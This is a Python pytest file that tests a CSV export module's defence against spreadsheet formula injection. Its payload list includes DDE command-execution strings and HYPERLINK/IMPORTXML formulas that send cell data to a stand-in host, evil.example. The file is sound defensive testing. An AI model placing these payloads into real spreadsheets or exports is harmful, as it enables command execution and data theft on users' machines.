import csv
import io

import pytest

from feedback_store.csv_text import neutralise, to_csv

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "|calc",
    "%0A=1+1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    cell = next(csv.reader(io.StringIO(to_csv(["a"], [[text]]).split("\n", 1)[1])))[0]
    assert cell.startswith("'")


@pytest.mark.parametrize("value", ["산에서 줍기", "v0001", 3, -2.5, "a=b", None, "1 - 2"])
def test_what_is_no_formula_stays(value: object) -> None:
    assert neutralise(value) == value


def test_control_characters_go_and_quotes_hold() -> None:
    text = to_csv(["a", "b"], [['x\x00\x1b[31m"y', "두\n줄"]])
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["a", "b"], ['x\ufffd\ufffd[31m"y', "두\n줄"]]
